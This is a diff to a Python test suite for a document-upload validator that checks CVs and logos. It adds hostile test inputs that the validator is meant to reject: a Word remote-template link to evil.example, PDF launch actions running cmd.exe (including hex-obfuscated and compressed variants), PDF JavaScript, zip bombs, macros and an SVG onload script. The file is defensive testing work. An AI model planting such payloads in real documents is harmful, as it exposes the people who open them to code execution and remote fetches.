@@ -4,6 +4,7 @@ import io
 import tracemalloc
 import uuid
 import zipfile
+import zlib
 
 import pytest
 from PIL import Image
@@ -74,6 +75,27 @@ WORD_ON_THE_WEB = {
 }
 
 
+TEMPLATE = (
+    b'<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm" TargetMode="External" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
+)
+LINK = (
+    b'<Relationships><Relationship Id="rId1" Target="https://example.org/" TargetMode="External" '
+    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
+)
+
+
+FETCHES = {"word/_rels/settings.xml.rels": TEMPLATE}
+
+
+def pdf(objects: bytes) -> bytes:
+    return b"%PDF-1.7\n1 0 obj\n" + objects + b"\nendobj\n%%EOF"
+
+
+def object_stream(objects: bytes) -> bytes:
+    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + zlib.compress(objects) + b"\nendstream"
+
+
 class Shelf:
     def __init__(self) -> None:
         self.kept: dict[str, bytes] = {}
@@ -89,8 +111,9 @@ class Shelf:
     ("upload", "media_type"),
     [
         (PDF, "application/pdf"),
+        (Upload("form.pdf", pdf(object_stream(b"<< /S /JavaScript /JS (AFNumber_Format) >>"))), "application/pdf"),
         (
-            Upload("Mon CV.docx", archive(DOCX)),
+            Upload("Mon CV.docx", archive(DOCX | {"word/_rels/document.xml.rels": LINK})),
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
         ),
         (Upload("cv.odt", archive(ODT)), "application/vnd.oasis.opendocument.text"),
@@ -123,6 +146,15 @@ def test_what_it_is_decides_not_what_it_is_called(upload: Upload, media_type: st
         (DocumentKind.CV, Upload("cv.heic", film(b"heic")), "document.photo"),
         (DocumentKind.CV, Upload("cv.docx", b"PK\x03\x04 broken"), "document.broken"),
         (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/vbaProject.bin": b"x"})), "document.macros"),
+        (
+            DocumentKind.CV,
+            Upload("cv.docx", archive(DOCX | {"word/_rels/settings.xml.rels": TEMPLATE})),
+            "document.fetches",
+        ),
+        (DocumentKind.CV, Upload("cv.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>")), "document.starts"),  # S17
+        (DocumentKind.CV, Upload("cv.pdf", pdf(b"<< /S /L#61unch /F (cmd.exe) >>")), "document.starts"),
+        (DocumentKind.CV, Upload("cv.pdf", pdf(object_stream(b"<< /S /Launch /F (cmd.exe) >>"))), "document.starts"),
+        (DocumentKind.CV, Upload("cv.pdf", pdf(object_stream(b" " * 9 * 2**20))), "document.starts"),
         (DocumentKind.CV, Upload("cv.docx", archive(DOCX | {"word/bomb": b"0" * 70 * 2**20})), "document.bomb"),
         (DocumentKind.CV, Upload("cv.odt", archive(ODT | {f"p{n}": b"" for n in range(2100)})), "document.bomb"),
         (DocumentKind.LOGO, Upload("logo.png", b"<svg onload=alert(1)>"), "document.picture"),
